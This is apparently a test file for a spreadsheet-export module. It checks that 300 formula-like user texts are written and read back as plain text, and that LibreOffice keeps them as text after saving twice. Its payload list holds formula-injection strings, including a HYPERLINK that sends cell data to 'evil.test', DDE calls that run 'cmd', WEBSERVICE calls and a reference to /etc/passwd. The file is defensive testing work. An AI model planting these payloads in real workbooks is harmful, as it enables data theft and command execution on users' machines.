import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lookUpSheet } from '#shared/workbook.ts';
import { workbookText } from '#shared/workbook-text.ts';
import { fillForm } from '#main/core/excel/fill/fill-form.ts';
import { defaultReadLimits } from '#main/core/excel/read/limits.ts';
import { readWorkbook } from '#main/core/excel/read/read-workbook.ts';
import { writeListWorkbook } from '#main/core/excel/write/list-workbook.ts';
import { listPaper, paperRow } from '#main/core/excel/write/list-paper.ts';
import { writePaperWorkbook } from '#main/core/excel/write/paper-workbook.ts';
import { paperStyle } from '#main/core/excel/write/paper-styles.ts';
import { createStreamedWorkbook } from '#main/core/excel/write/streamed-workbook.ts';
import { convertWithLibreOffice } from '#tests/support/libreoffice.ts';
import { partsOf } from '#tests/support/package-texts.ts';
import { findTool, notRun } from '#tests/support/tools.ts';

/*
 * Texts of users that would be formulas where they were typed in. All exports write by these few ways, as the last test
 * makes sure; what is written is read by the program's own import, and by LibreOffice that saves it twice.
 */

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  'ー',
  ' =',
  "'=",
  '"=',
  '\u00A0=',
  '\uFEFF=',
  '=-+',
  '%',
  '|',
];
const bodies = [
  '1+1',
  'A1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.test?x="&A1,"点我")',
  "cmd|' /C calc'!A0",
  'DDE("cmd","/C calc","x")',
  'WEBSERVICE("http://evil.test")',
  'IMPORTXML("http://evil.test","//a")',
  "'file:///etc/passwd'#$Sheet1.A1",
  '[1]Sheet1!A1',
  'EXEC("calc")',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '_x003D_1',
  '_xlfn.CONCAT(A1)',
  '"&CHAR(61)&"',
];
const payloads = starts.flatMap((start) => bodies.map((body) => start + body));
/** How a cell holds them: line breaks alike. */
const held = payloads.map(workbookText);

let folder: string;
const file = (name: string) => join(folder, name);
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'office-formulas-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function paperOf(texts: readonly string[]) {
  const [first = ''] = texts;
  return listPaper({
    name: '清单',
    title: first,
    caption: { left: first, right: first },
    columns: [
      [first, 40, 'left'],
      ['数', 10, 'right'],
    ],
    rows: texts.map((text, index) => [
      { value: text, note: text, rule: { kind: 'any', hint: { title: text, text } } as const },
      ...paperRow([-index]),
    ]),
  });
}

/** Every way that texts of users get into a workbook. */
const ways: Record<string, (path: string) => Promise<void>> = {
  'a list': (path) =>
    writeListWorkbook(
      path,
      [{ name: '清单', columns: [{ heading: '内容', width: 40 }], rows: payloads.map((text) => [text]) }],
      () => undefined,
    ),
  'a paper': (path) =>
    writePaperWorkbook(
      path,
      [{ ...paperOf(payloads), foot: payloads.slice(0, 20) }],
      [{ name: '数据', rows: payloads.map((text) => [text]) }],
      () => undefined,
    ),
  'a streamed workbook': async (path) => {
    const workbook = createStreamedWorkbook(path, payloads[0] ?? '');
    const sheet = workbook.sheet({
      name: '清单',
      widths: [40],
      headRows: [1, 1],
      frozenColumns: 0,
      marked: true,
      page: {
        paper: 'A4',
        orientation: 'portrait',
        margins: { top: 10, bottom: 10, left: 10, right: 10 },
        fitToWidth: true,
        repeatHeads: true,
      },
    });
    const style = paperStyle('cell', 'left');
    sheet.add(payloads.map((text) => ({ cells: [{ content: text, style, note: text }], mark: text })));
    await sheet.end();
    await workbook.finish();
  },
};

/** Formulas of a workbook by what its parts hold, and whatever leads out of it. */
function dangersIn(bytes: Uint8Array): string[] {
  return [...partsOf(bytes)].flatMap(([name, part]) => {
    if (/externalLink|vbaProject|connections\.xml|embeddings/.test(name)) return [name];
    if (!name.endsWith('.xml') && !name.endsWith('.rels')) return [];
    const xml = strFromU8(part);
    return [...xml.matchAll(/<f[ >/][^<]*|<(?:ddeLink|oleLink|hyperlink)\b[^>]*|TargetMode="External"/g)].map(
      ([found]) => `${name}: ${found}`,
    );
  });
}

function textsIn(bytes: Uint8Array): Set<unknown> {
  const { sheets } = readWorkbook(bytes, defaultReadLimits);
  return new Set(
    sheets
      .flatMap(({ cells }) => cells.filter(({ formula }) => formula === undefined))
      .map(({ value }) => value),
  );
}

describe('300 texts that would be formulas', () => {
  it('are 300', () => {
    expect(new Set(payloads).size).toBe(300);
  });

  it.each(Object.entries(ways))('are texts in %s and come back equal by the import', async (name, write) => {
    await write(file(`${name}.xlsx`));
    const bytes = readFileSync(file(`${name}.xlsx`));
    expect(dangersIn(bytes)).toEqual([]);
    const texts = textsIn(bytes);
    expect(held.filter((text) => !texts.has(text))).toEqual([]);
  });

  it('leave negative numbers numbers', async () => {
    await ways['a paper']?.(file('numbers.xlsx'));
    const [sheet] = readWorkbook(readFileSync(file('numbers.xlsx')), defaultReadLimits).sheets;
    const last = lookUpSheet(sheet!).cellAt(3 + payloads.length, 2);
    expect(last).toMatchObject({ type: 'number', value: 1 - payloads.length });
  });

  it('are texts in a form of another office that was filled with them', () => {
    const form = readFileSync(join(import.meta.dirname, '../../../../fixtures/forms/quarterly.xlsx'));
    const before = dangersIn(form);
    const records = payloads.map((text) => [{ kind: 'text', text } as const]);
    const filled = fillForm(
      form,
      [{ sheet: '考核汇总', cells: [], blocks: [{ top: 6, bottom: 8, columns: [2], records }] }],
      { limits: defaultReadLimits, check: () => undefined },
    );
    const formulas = (found: readonly string[]) =>
      found.filter((each) => held.some((text) => each.includes(text.slice(1))));
    expect(formulas(dangersIn(filled))).toEqual(formulas(before));
    const texts = textsIn(filled);
    expect(held.filter((text) => !texts.has(text))).toEqual([]);
  });
});

const tool = findTool('libreoffice');
if (tool === null) process.stdout.write(`${notRun('formulas in another program', 'libreoffice')}\n`);

it.skipIf(tool === null)(
  'are still texts after another program has saved the workbook twice',
  { timeout: 120_000 },
  async () => {
    let path = file('twice.xlsx');
    await ways['a paper']?.(path);
    for (const round of ['first', 'second']) {
      mkdirSync(file(round));
      path = await convertWithLibreOffice(tool ?? '', path, 'xlsx', file(round));
    }
    const bytes = readFileSync(path);
    expect(dangersIn(bytes)).toEqual([]);
    const texts = textsIn(bytes);
    expect(held.filter((text) => !texts.has(text))).toEqual([]);
  },
);

it('no export writes a workbook or a table of its own making, past these ways', () => {
  const main = join(import.meta.dirname, '../../../../../main');
  const own = readdirSync(main, { recursive: true, encoding: 'utf8' })
    .map((name) => name.replaceAll('\\', '/'))
    .filter((name) => name.endsWith('.ts') && !name.startsWith('core/excel/'))
    .filter((name) =>
      /from 'exceljs'|from '@e965\/xlsx'|text\/csv|\.csv`|sharedStrings/.test(
        readFileSync(join(main, name), 'utf8'),
      ),
    );
  expect(own).toEqual([]);
});
